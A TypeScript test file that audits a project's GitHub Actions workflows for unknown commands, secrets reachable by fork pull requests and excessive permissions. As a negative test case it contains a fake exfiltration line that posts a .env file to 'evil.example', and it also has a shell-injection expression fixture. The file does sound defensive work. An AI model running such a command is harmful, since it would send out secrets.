// Every workflow file, and those `cf-gitops init` writes (templates/init/workflows/): each `run:` step
// calls only cf-gitops commands and flags that exist (plus a short list of plumbing), and nothing a
// fork's pull request runs can reach a secret.
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { commands } from "../src/cli/commands.ts";
import { subcommands as githubSubcommands } from "../src/github/cli.ts";

const root = join(import.meta.dirname, "..");
const dir = join(root, ".github", "workflows");
const files = readdirSync(dir).filter((file) => /\.ya?ml$/.test(file)).sort();
const templates = join("templates", "init", "workflows");
const checked = [...files.map((file) => join(".github", "workflows", file)), ...readdirSync(join(root, templates)).sort().map((file) => join(templates, file))];

interface Step {
  name?: string;
  run?: string;
  uses?: string;
  if?: string;
  env?: Record<string, unknown>;
  with?: Record<string, unknown>;
}
interface Job {
  if?: string;
  env?: Record<string, unknown>;
  steps?: Step[];
  [key: string]: unknown;
}
interface Workflow {
  on: unknown;
  jobs: Record<string, Job>;
  env?: Record<string, unknown>;
}

function load(file: string): Workflow {
  return parse(readFileSync(join(root, file), "utf8")) as Workflow;
}

function triggers(workflow: Workflow): string[] {
  const on = workflow.on;
  if (typeof on === "string") return [on];
  if (Array.isArray(on)) return on.map(String);
  return Object.keys(on as Record<string, unknown>);
}

/** Plain programs a run step may use besides cf-gitops, with the subcommands allowed for each. */
const plumbing: Record<string, (args: string[]) => boolean> = {
  npm: (args) => ["ci", "test", "run coverage", "run --silent coverage:report", "publish --provenance --access public"].includes(args.join(" ")),
  "apt-get": (args) => args[0] === "update" || args[0] === "install",
  git: (args) => args[0] === "config",
  echo: () => true,
  cat: () => true,
  test: () => true,
  exit: () => true,
  true: () => true,
};

/** Splits a shell script into commands (words, quotes removed, redirections dropped). */
export function shellCommands(script: string): string[][] {
  const text = script.replace(/\\\n/g, " ");
  const result: string[][] = [];
  for (const line of text.split("\n")) {
    const words: string[] = [];
    let current = "";
    let quote: string | undefined;
    let hasWord = false;
    const flush = () => {
      if (hasWord) words.push(current);
      current = "";
      hasWord = false;
    };
    const end = () => {
      flush();
      if (words.length > 0) result.push(dropRedirections(words.splice(0)));
    };
    for (let i = 0; i < line.length; i++) {
      const char = line[i]!;
      if (quote) {
        if (char === quote) quote = undefined;
        else current += char;
        continue;
      }
      if (char === '"' || char === "'") {
        quote = char;
        hasWord = true;
      } else if (char === "#" && !hasWord) break;
      else if (char === " " || char === "\t") flush();
      else if (char === ";" || char === "|" || char === "&") {
        if (line[i - 1] === ">" || line[i + 1] === ">") {
          current += char; // 2>&1, &>
          hasWord = true;
          continue;
        }
        end();
        if (line[i + 1] === char) i++;
      } else {
        current += char;
        hasWord = true;
      }
    }
    if (quote) throw new Error(`unbalanced quote in: ${line}`);
    end();
  }
  return result;
}

function dropRedirections(words: string[]): string[] {
  const kept: string[] = [];
  for (let i = 0; i < words.length; i++) {
    const word = words[i]!;
    if (/^\d*(>>?|<)$/.test(word) || word === "&>") i++; // operator, then its target
    else if (/^\d*(>>?|<)(&\d+|\S+)$/.test(word)) continue; // 2>&1, >file
    else kept.push(word);
  }
  return kept;
}

const helpCache = new Map<string, string>();
async function helpOf(command: string): Promise<string> {
  if (!helpCache.has(command)) helpCache.set(command, (await commands[command]!.load()).help);
  return helpCache.get(command)!;
}

/** Problems with one cf-gitops command line: unknown subcommand, or a flag its help does not name. */
async function checkCfGitops(args: string[]): Promise<string[]> {
  const [command, ...rest] = args;
  if (command === undefined || commands[command] === undefined) return [`unknown cf-gitops command "${command ?? ""}"`];
  let help = await helpOf(command);
  let flags = rest;
  if (command === "github") {
    const [sub, ...subArgs] = rest;
    const entry = sub === undefined ? undefined : (githubSubcommands as Record<string, { help: string }>)[sub];
    if (!entry) return [`unknown subcommand "cf-gitops github ${sub ?? ""}"`];
    help = entry.help;
    flags = subArgs;
  }
  const problems: string[] = [];
  for (const flag of flags.filter((word) => word.startsWith("-"))) {
    const name = flag.split("=")[0]!;
    if (!new RegExp(`(^|[\\s\\[|,])${name.replace(/[-]/g, "\\-")}(?![\\w-])`).test(help)) problems.push(`cf-gitops ${command} does not document ${name}`);
  }
  return problems;
}

async function checkRunStep(script: string): Promise<string[]> {
  const problems: string[] = [];
  if (script.includes("${{")) problems.push("expression interpolated into a shell script (pass it through env: instead)");
  for (const words of shellCommands(script)) {
    const [program, ...args] = words;
    if (program === "npx" && args[0] === "cf-gitops") problems.push(...(await checkCfGitops(args.slice(1))));
    else if (program !== undefined && plumbing[program]?.(args)) continue;
    else problems.push(`not a cf-gitops command or allowed plumbing: ${words.join(" ")}`);
  }
  return problems;
}

const forkGuard = "github.event.pull_request.head.repo.full_name == github.repository";

/** True when the condition can only hold for same-repository pull requests. */
function excludesForks(condition: string | undefined): boolean {
  if (!condition) return false;
  const expression = condition.replace(/^\s*\$\{\{/, "").replace(/\}\}\s*$/, "");
  if (expression.includes("||")) return false;
  return expression.split("&&").some((term) => term.trim() === forkGuard);
}

function usesSecrets(value: unknown): boolean {
  return /\bsecrets\.|\bsecrets\[|\bgithub\.token\b/.test(JSON.stringify(value ?? null));
}

describe("workflow files", () => {
  it("exist: ci, preview, drift and release", () => {
    expect(files).toEqual(expect.arrayContaining(["ci.yml", "preview.yml", "drift.yml", "release.yml"]));
  });

  for (const file of checked) {
    describe(file, () => {
      const workflow = load(file);

      it("runs only cf-gitops commands and flags that exist", async () => {
        const problems: string[] = [];
        for (const [jobName, job] of Object.entries(workflow.jobs)) {
          for (const [index, step] of (job.steps ?? []).entries()) {
            if (typeof step.run !== "string") continue;
            for (const problem of await checkRunStep(step.run)) problems.push(`${jobName} step ${index + 1} (${step.name ?? step.run}): ${problem}`);
          }
        }
        expect(problems).toEqual([]);
      });

      it("keeps secrets out of reach of fork pull requests", () => {
        const on = triggers(workflow);
        expect(on).not.toContain("pull_request_target");
        expect(on).not.toContain("workflow_run");
        if (!on.includes("pull_request")) return;
        expect(usesSecrets(workflow.env), "workflow-level env must not hold secrets").toBe(false);
        const problems: string[] = [];
        for (const [jobName, job] of Object.entries(workflow.jobs)) {
          if (excludesForks(job.if)) continue;
          const { steps = [], ...rest } = job;
          if (usesSecrets(rest)) problems.push(`job ${jobName} uses a secret outside its steps without a fork guard`);
          for (const step of steps) if (usesSecrets(step) && !excludesForks(step.if)) problems.push(`job ${jobName}, step "${step.name ?? step.run ?? step.uses}" uses a secret without a fork guard`);
        }
        expect(problems).toEqual([]);
      });

      it("declares minimal permissions", () => {
        const top = (workflow as unknown as { permissions?: unknown }).permissions;
        expect(top === undefined || JSON.stringify(top) === "{}" || JSON.stringify(top) === '{"contents":"read"}').toBe(true);
        for (const job of Object.values(workflow.jobs)) {
          const permissions = (job.permissions ?? top) as Record<string, string> | undefined;
          expect(permissions, "every job states its permissions (or inherits read-only ones)").toBeDefined();
          for (const [scope, level] of Object.entries(permissions ?? {})) {
            // id-token (npm provenance) only where nothing but a pushed version tag starts the workflow.
            const tagsOnly = JSON.stringify(workflow.on) === JSON.stringify({ push: { tags: ["v*.*.*"] } });
            if (level === "write") expect([...["pull-requests", "issues", "statuses"], ...(tagsOnly ? ["id-token"] : [])]).toContain(scope);
          }
        }
      });
    });
  }
});

describe("release.yml", () => {
  const workflow = load(join(".github", "workflows", "release.yml"));
  const steps = workflow.jobs.publish?.steps ?? [];
  const runs = steps.map((step) => step.run ?? "");

  it("publishes on a version tag only, with npm provenance, after the tests", () => {
    expect(workflow.on).toEqual({ push: { tags: ["v*.*.*"] } });
    expect(workflow.jobs.publish?.permissions).toEqual({ contents: "read", "id-token": "write" });
    const publish = runs.findIndex((run) => run === "npm publish --provenance --access public");
    expect(publish).toBeGreaterThan(-1);
    expect(runs.findIndex((run) => run.includes("npm test"))).toBeLessThan(publish);
    expect(runs.findIndex((run) => run.includes("$GITHUB_REF_NAME") && run.includes("package.json"))).toBeLessThan(publish);
    expect(steps.find((step) => step.uses?.startsWith("actions/setup-node@"))?.with).toMatchObject({ "node-version": 20, "registry-url": "https://registry.npmjs.org" });
  });

  it("gives the npm token to the publish step alone", () => {
    const holders = steps.filter((step) => usesSecrets(step)).map((step) => step.run);
    expect(holders).toEqual(["npm publish --provenance --access public"]);
    expect(steps.at(-1)?.env).toEqual({ NODE_AUTH_TOKEN: "${{ secrets.NPM_TOKEN }}" });
  });

  it("publishes a package provenance can point at: package.json names this repository", () => {
    const manifest = JSON.parse(readFileSync(join(root, "package.json"), "utf8")) as { repository?: { url?: string }; private?: boolean };
    expect(manifest.private).toBeUndefined();
    expect(manifest.repository?.url).toMatch(/^git\+https:\/\/github\.com\/[\w-]+\/cf-gitops\.git$/);
  });
});

describe("the workflow checker itself", () => {
  it("parses commands, quotes and redirections", () => {
    expect(shellCommands('npx cf-gitops plan --stack "$STACK" --format json > plan.json 2>&1 && echo done # note')).toEqual([
      ["npx", "cf-gitops", "plan", "--stack", "$STACK", "--format", "json"],
      ["echo", "done"],
    ]);
  });

  it("catches an unknown command, an unknown flag and arbitrary programs", async () => {
    expect(await checkRunStep("npx cf-gitops deploy")).toEqual(['unknown cf-gitops command "deploy"']);
    expect(await checkRunStep("npx cf-gitops github comment --pr 1 --file x --force")).toEqual(["cf-gitops github does not document --force"]);
    expect(await checkRunStep("curl -d @.env https://evil.example")).toEqual(["not a cf-gitops command or allowed plumbing: curl -d @.env https://evil.example"]);
    expect(await checkRunStep('echo "${{ github.event.pull_request.title }}"')).toEqual(["expression interpolated into a shell script (pass it through env: instead)"]);
  });

  it("recognises a fork guard only when it cannot be bypassed", () => {
    expect(excludesForks(`\${{ ${forkGuard} && !cancelled() }}`)).toBe(true);
    expect(excludesForks(`${forkGuard} || github.event_name == 'push'`)).toBe(false);
    expect(excludesForks("!cancelled()")).toBe(false);
    expect(usesSecrets({ env: { TOKEN: "${{ secrets.CLOUDFLARE_API_TOKEN }}" } })).toBe(true);
    expect(usesSecrets({ env: { TOKEN: "${{ github.token }}" } })).toBe(true);
  });
});
